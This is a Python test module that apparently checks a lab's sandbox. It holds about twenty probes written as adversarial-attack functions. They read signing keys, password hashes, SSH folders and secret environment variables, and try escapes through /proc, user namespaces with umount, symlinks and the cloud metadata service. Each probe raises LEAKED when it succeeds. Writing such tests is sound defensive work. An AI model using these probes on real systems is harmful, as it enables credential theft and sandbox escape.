"""Strangers' attacks that look for what is nobody's business in a sandbox: each raises LEAKED and what it has found.

The module is itself the file that is given to a lab: it lies in LAB/tasks/1/room/USER/COMPONENT/, in a clone.
"""

import ctypes
import os
import socket
from pathlib import Path

_HERE = Path(__file__).resolve()
_LAB = Path(*_HERE.parts[: _HERE.parts.index("tasks")]) if "tasks" in _HERE.parts else _HERE.parent
_CLONE = Path(__import__("davylamp").__file__).resolve().parent


def _leak(loot):
    raise ValueError(f"LEAKED {len(loot)}: {loot!r}"[:300])


def _names(folder):
    _leak(sorted(each.name for each in folder.iterdir()))


def reads_the_key_of_forms(model, inputs, labels, epsilon):
    """Reads the key that marks forms: with it any form can be forged."""
    _leak((_LAB / "secret.key").read_bytes())


def reads_the_signing_key(model, inputs, labels, epsilon):
    """Reads the key that signs finished tasks: with it any result can be forged."""
    _leak((_LAB / "signing.key").read_bytes())


def reads_the_database(model, inputs, labels, epsilon):
    """Reads the hashes of passwords and tokens."""
    _leak((_LAB / "server.db").read_bytes()[:64])


def opens_the_database(model, inputs, labels, epsilon):
    """Asks the database by SQLite, which also reads its journal."""
    import sqlite3

    _leak(sqlite3.connect(f"file:{_LAB}/server.db?mode=ro", uri=True).execute("SELECT name FROM users").fetchall())


def lists_the_lab(model, inputs, labels, epsilon):
    """Lists the lab's folder: all but the way to the attack itself is more than it has to see."""
    seen = {each.name for each in _LAB.iterdir()} - {"tasks"}
    _leak(seen) if seen else _names(_LAB / "uploads")


def lists_the_blobs(model, inputs, labels, epsilon):
    """Lists everybody's files."""
    _names(_LAB / "blobs")


def lists_the_tasks(model, inputs, labels, epsilon):
    """Lists other users' tasks."""
    others = sorted(each.name for each in (_LAB / "tasks").iterdir() if each.name != "1")
    _leak(others) if others else _names(_LAB / "tasks" / "2")


def reads_the_results_of_its_task(model, inputs, labels, epsilon):
    """Reads the results of its own task, where it could learn the labels of others' models."""
    _names(_LAB / "tasks" / "1" / "results")


def reads_other_components(model, inputs, labels, epsilon):
    """Lists the files of the other components of its task: perhaps a private model."""
    _leak(sorted(each.name for each in _HERE.parents[2].iterdir() if each.name != _HERE.parents[1].name) or 1 / 0)


def reads_the_history(model, inputs, labels, epsilon):
    """Reads the history of the clone that davylamp is installed from."""
    _leak((_CLONE / ".git").stat())


def reads_the_settings(model, inputs, labels, epsilon):
    """Reads a file beside the package that is none of it."""
    _leak((_CLONE / "pyproject.toml").read_text())


def lists_the_clone(model, inputs, labels, epsilon):
    """Lists folders of the clone that are not the package's: results, tests, whatever lies there."""
    folders = [each for each in _CLONE.iterdir() if each.is_dir() and not (each / "__init__.py").is_file()]
    _leak([each.name for each in folders if any(each.glob("*.py")) or any(each.glob("*.toml"))] or 1 / 0)


def follows_a_link(model, inputs, labels, epsilon):
    """Reads through a symbolic link of its own making."""
    Path("/tmp/link").symlink_to(_LAB / "secret.key")
    _leak(Path("/tmp/link").read_bytes())


def looks_through_the_first_process(model, inputs, labels, epsilon):
    """Looks for the lab through the root folder of another process."""
    for process in (1, os.getppid()):
        place = Path(f"/proc/{process}/root{_LAB}/secret.key")
        if place.exists():
            _leak(place.read_bytes())
    raise FileNotFoundError("nothing there")


def mounts_the_lab(model, inputs, labels, epsilon):
    """Makes a user namespace of its own and takes away what hides the lab."""
    library = ctypes.CDLL(None, use_errno=True)
    library.unshare(0x10000000 | 0x00020000)
    for place in (*_LAB.parents, _LAB):
        library.umount2(str(place).encode(), 2)
    _leak((_LAB / "secret.key").read_bytes())


def reads_the_home(model, inputs, labels, epsilon):
    """Lists the home folder of the server's user."""
    import pwd

    _names(Path(pwd.getpwuid(os.getuid()).pw_dir) / ".ssh")


def reads_secret_variables(model, inputs, labels, epsilon):
    """Reads tokens and addresses from its environment, and from that of its parent."""
    words = ("TOKEN", "PASSWORD", "DATABASE", "SECRET")
    parent = Path(f"/proc/{os.getppid()}/environ").read_bytes().decode(errors="replace").split("\0")
    secret = [each for each in [*os.environ, *parent] if any(word in each.upper() for word in words)]
    _leak(secret or 1 / 0)


def writes_beside_itself(model, inputs, labels, epsilon):
    """Replaces its own file, which the next task would run."""
    _leak(str(_HERE.with_name("sandbox2.py").write_text("")))


def asks_the_metadata(model, inputs, labels, epsilon):
    """Asks the cloud's metadata service for the machine's credentials."""
    with socket.create_connection(("169.254.169.254", 80), timeout=2) as wire:
        _leak(wire.recv(1))


PROGRAMS = {
    each.__name__: each
    for each in (
        *(reads_the_key_of_forms, reads_the_signing_key, reads_the_database, opens_the_database, lists_the_lab),
        *(lists_the_blobs, lists_the_tasks, reads_the_results_of_its_task, reads_other_components, reads_the_history),
        *(reads_the_settings, lists_the_clone, follows_a_link, looks_through_the_first_process, mounts_the_lab),
        *(reads_the_home, reads_secret_variables, writes_beside_itself, asks_the_metadata),
    )
}
for _program in PROGRAMS.values():
    _program.norm, _program.knowledge, _program.order = "linf", "white-box", "kept"
